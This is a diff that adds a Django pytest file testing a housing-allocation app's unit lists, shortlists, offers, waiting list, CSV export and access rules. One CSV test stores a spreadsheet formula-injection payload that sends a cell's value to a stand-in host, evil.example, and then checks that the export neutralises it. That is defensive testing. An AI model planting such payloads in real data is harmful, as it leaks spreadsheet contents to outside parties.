@@ -1,0 +1,318 @@
+"""Allocation pages: housing stock, shortlist, offers, waiting list and its CSV; who may see them."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+from django.conf import settings
+from django.contrib.messages import get_messages
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import translation
+
+from allocation.models import Offer, Unit
+from stord_bolig.models import Letter
+from tenancies.models import Lease
+from tests.allocation.conftest import DAY, TODAY, free_unit, waiting_case
+from tests.conftest import verified_client
+from tests.factories import HouseholdFactory, PersonFactory
+
+pytestmark = pytest.mark.usefixtures("pinned_today")
+
+
+@pytest.fixture
+def english(caseworker_client):
+    """The caseworker has chosen English, so the assertions below read the English texts."""
+    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    return caseworker_client
+
+
+def _messages(response) -> list[str]:
+    return [str(message) for message in get_messages(response.wsgi_request)]
+
+
+# --- housing stock ----------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_unit_list__caseworker_sees_units_and_can_filter_them(english):
+    free_unit(address="Sjøvegen 1, 5411 Stord", bedrooms=1)
+    free_unit(address="Sjøvegen 2, 5411 Stord", bedrooms=3, wheelchair_accessible=True)
+    free_unit(address="Fjellvegen 9, 5411 Stord", bedrooms=3, status=Unit.Status.LET)
+    url = reverse("allocation:unit-list")
+
+    everything = english.get(url)
+    by_street = english.get(url, {"q": "sjøvegen"})
+    by_size_and_status = english.get(url, {"bedrooms": 3, "status": "free"})
+
+    assert everything.status_code == 200
+    assert all(street in everything.content.decode() for street in ("Sjøvegen 1", "Sjøvegen 2", "Fjellvegen 9"))
+    assert "Sjøvegen 1" in by_street.content.decode() and "Sjøvegen 2" in by_street.content.decode()
+    assert "Fjellvegen 9" not in by_street.content.decode()
+    assert [u.address for u in by_size_and_status.context["page"]] == ["Sjøvegen 2, 5411 Stord"]
+
+
+@pytest.mark.django_db
+def test_unit_detail__free_unit_shows_the_ranked_shortlist_and_who_is_left_out_and_why(english):
+    unit = free_unit(bedrooms=1)
+    first = waiting_case(urgency="A")
+    second = waiting_case(urgency="C")
+    wheelchair = waiting_case(wheelchair_need=True)
+    family = waiting_case(children=(dt.date(2010, 1, 1), dt.date(2011, 2, 1)))  # needs 3 bedrooms
+
+    response = english.get(unit.get_absolute_url())
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    start = html.index('data-testid="shortlist"')
+    shortlist = html[start : html.index("</table>", start)]
+    assert shortlist.index(first.ref) < shortlist.index(second.ref)
+    assert "Band A" in shortlist and "Band C" in shortlist
+    assert wheelchair.ref not in shortlist and family.ref not in shortlist
+    excluded = html[html.index('data-testid="excluded"') :]
+    assert f"{wheelchair.ref}</a>: needs a wheelchair-accessible home" in excluded
+    assert f"{family.ref}</a>: too few bedrooms" in excluded
+    assert "2 waiting households are not eligible" in html
+
+
+@pytest.mark.django_db
+def test_unit_detail__exclusion_reasons_follow_the_users_language(caseworker_client):
+    unit = free_unit(bedrooms=1)
+    wheelchair = waiting_case(wheelchair_need=True)
+    url = unit.get_absolute_url()
+
+    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "nn"
+    nynorsk = caseworker_client.get(url).content.decode()
+    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    english = caseworker_client.get(url).content.decode()
+
+    with translation.override("nn"):
+        label = translation.gettext("needs a wheelchair-accessible home")
+    assert label != "needs a wheelchair-accessible home"  # the catalogue has a nynorsk text for it
+    assert f"{wheelchair.ref}</a>: {label}" in nynorsk
+    assert f"{wheelchair.ref}</a>: needs a wheelchair-accessible home" in english
+
+
+@pytest.mark.django_db
+def test_unit_detail__let_unit_shows_no_shortlist(english):
+    unit = free_unit(status=Unit.Status.LET)
+    waiting = waiting_case()
+
+    response = english.get(unit.get_absolute_url())
+
+    assert response.status_code == 200
+    assert 'data-testid="shortlist"' not in response.content.decode()
+    assert waiting.ref not in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_offer_make_view__post_makes_the_offer_and_redirects_with_a_success_message(english, caseworker):
+    unit = free_unit()
+    application = waiting_case()
+
+    response = english.post(reverse("allocation:offer-make", args=[unit.ref]), {"application": application.ref})
+
+    assert response.status_code == 302
+    assert response.url == unit.get_absolute_url()
+    offer = Offer.objects.get()
+    assert (offer.application, offer.unit, offer.offered, offer.made_by) == (application, unit, TODAY, caseworker)
+    assert Letter.objects.filter(kind="offer", case_ref=application.ref).exists()
+    assert _messages(response) == [
+        f"Offer {offer.ref} to {application.ref} is made; the answer is due 02.12.2026. "
+        "The offer letter is being prepared."
+    ]
+    page = english.get(unit.get_absolute_url()).content.decode()
+    assert offer.ref in page and reverse("allocation:offer-answer", args=[offer.ref]) in page
+
+
+@pytest.mark.django_db
+def test_offer_make_view__ineligible_case_redirects_with_the_reason_and_makes_nothing(english):
+    unit = free_unit(bedrooms=1)
+    application = waiting_case(wheelchair_need=True)
+
+    response = english.post(reverse("allocation:offer-make", args=[unit.ref]), {"application": application.ref})
+
+    assert response.status_code == 302
+    assert not Offer.objects.exists()
+    assert _messages(response) == [f"{application.ref} is not eligible for this unit: wheelchair."]
+
+
+@pytest.mark.django_db
+def test_offer_make_view__get_is_not_allowed_and_unknown_case_is_404(english):
+    unit = free_unit()
+    url = reverse("allocation:offer-make", args=[unit.ref])
+
+    assert english.get(url).status_code == 405
+    assert english.post(url, {"application": "S-1999-9999"}).status_code == 404
+    assert english.post(reverse("allocation:offer-make", args=["U-NOPE"]), {"application": "x"}).status_code == 404
+    assert not Offer.objects.exists()
+
+
+# --- answering an offer --------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def open_offer(caseworker):
+    from allocation import services
+
+    return services.offer_make(application=waiting_case(), unit=free_unit(), offered=TODAY - 2 * DAY, by=caseworker)
+
+
+@pytest.mark.django_db
+def test_offer_answer_view__page_shows_the_offer_and_deadline(english, open_offer):
+    response = english.get(reverse("allocation:offer-answer", args=[open_offer.ref]))
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert open_offer.unit.address in html
+    assert "answer due 30.11.2026" in html
+
+
+@pytest.mark.django_db
+def test_offer_answer_view__accepting_lets_the_unit_and_drafts_the_lease(english, open_offer):
+    response = english.post(
+        reverse("allocation:offer-answer", args=[open_offer.ref]),
+        {"answer": "accepted", "answered": TODAY.isoformat(), "reason": ""},
+    )
+
+    assert response.status_code == 302
+    assert response.url == open_offer.unit.get_absolute_url()
+    assert _messages(response) == [f"The answer to offer {open_offer.ref} is recorded."]
+    open_offer.refresh_from_db()
+    assert open_offer.status == Offer.Status.ACCEPTED
+    assert Unit.objects.get(pk=open_offer.unit_id).status == Unit.Status.LET
+    assert Lease.objects.filter(unit=open_offer.unit, household=open_offer.application.household).exists()
+
+
+@pytest.mark.django_db
+def test_offer_answer_view__answer_after_the_deadline_shows_the_error_on_the_form(english, open_offer):
+    response = english.post(
+        reverse("allocation:offer-answer", args=[open_offer.ref]),
+        {"answer": "refused", "answered": (TODAY + 10 * DAY).isoformat(), "reason": "Manglar heis"},
+    )
+
+    assert response.status_code == 200
+    assert "The answer date must be between the offer date and the deadline 30.11.2026." in response.content.decode()
+    open_offer.refresh_from_db()
+    assert open_offer.status == Offer.Status.OPEN
+
+
+# --- waiting list -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_waiting_list__shows_each_waiting_case_with_its_state(english):
+    urgent = waiting_case(urgency="A")
+    ordinary = waiting_case(urgency="C", suspended_until=TODAY + 10 * DAY)
+    offered = waiting_case(urgency="B")
+    from allocation import services
+
+    offer = services.offer_make(application=offered, unit=free_unit(), offered=TODAY, by=None)
+
+    response = english.get(reverse("allocation:waiting-list"))
+
+    assert response.status_code == 200
+    assert [row["case"].ref for row in response.context["rows"]] == [urgent.ref, offered.ref, ordinary.ref]
+    html = response.content.decode()
+    assert "3 households waiting on 25.11.2026." in html
+    assert f"open offer {offer.ref}" in html
+    assert "suspended until 05.12.2026" in html
+    only_a = english.get(reverse("allocation:waiting-list"), {"band": "A"})
+    assert [row["case"].ref for row in only_a.context["rows"]] == [urgent.ref]
+
+
+@pytest.mark.django_db
+def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(english):
+    person = PersonFactory(given_name='=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', family_name="Hansen")
+    application = waiting_case(household=HouseholdFactory(applicant=person))
+    plain = waiting_case()
+
+    response = english.get(reverse("allocation:waiting-list"), {"format": "csv"})
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    assert response["Content-Disposition"] == 'attachment; filename="venteliste-2026-11-25.csv"'
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[0] == [
+        "case",
+        "applicant",
+        "band",
+        "decided",
+        "received",
+        "bedrooms",
+        "wheelchair",
+        "target_group",
+        "suspended_until",
+        "open_offer",
+    ]
+    by_case = {row[0]: row for row in rows[1:]}
+    assert set(by_case) == {application.ref, plain.ref}
+    assert by_case[application.ref][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Hansen'
+    assert by_case[plain.ref][1] == str(plain.household.applicant)
+    assert by_case[plain.ref][3] == "2026-10-01"
+
+
+@pytest.mark.django_db
+def test_waiting_list__query_count_does_not_grow_with_the_list(english):
+    def count_queries() -> int:
+        with CaptureQueriesContext(connection) as queries:
+            response = english.get(reverse("allocation:waiting-list"))
+        assert response.status_code == 200
+        return len(queries)
+
+    for _ in range(3):
+        waiting_case(children=(dt.date(2015, 1, 1),))
+    small = count_queries()
+    for _ in range(17):
+        waiting_case(children=(dt.date(2016, 1, 1),))
+    large = count_queries()
+
+    assert len(english.get(reverse("allocation:waiting-list")).context["rows"]) == 20
+    assert large == small
+
+
+# --- who may see what -------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("name", "method", "args"),
+    [
+        ("allocation:unit-list", "get", []),
+        ("allocation:unit-detail", "get", ["unit"]),
+        ("allocation:offer-make", "post", ["unit"]),
+        ("allocation:offer-answer", "get", ["offer"]),
+        ("allocation:waiting-list", "get", []),
+        ("allocation:meeting-list", "get", []),
+    ],
+)
+def test_allocation_pages__nav_advisor_is_refused_and_anonymous_is_sent_to_login(
+    client, make_user, open_offer, name, method, args
+):
+    refs = {"unit": open_offer.unit.ref, "offer": open_offer.ref}
+    url = reverse(name, args=[refs[a] for a in args])
+    data = {"application": open_offer.application.ref} if method == "post" else {}
+
+    anonymous = getattr(client, method)(url, data)
+    nav = getattr(verified_client(client, make_user("nav_advisor")), method)(url, data)
+
+    assert anonymous.status_code == 302 and anonymous.url.startswith(reverse("login"))
+    assert nav.status_code == 403
+    assert open_offer.application.ref not in nav.content.decode()
+    assert Offer.objects.count() == 1
+
+
+@pytest.mark.django_db
+def test_waiting_list__csv_export_is_refused_to_a_nav_advisor(client, make_user):
+    application = waiting_case()
+    nav_client = verified_client(client, make_user("nav_advisor"))
+
+    response = nav_client.get(reverse("allocation:waiting-list"), {"format": "csv"})
+
+    assert response.status_code == 403
+    assert application.ref not in response.content.decode()
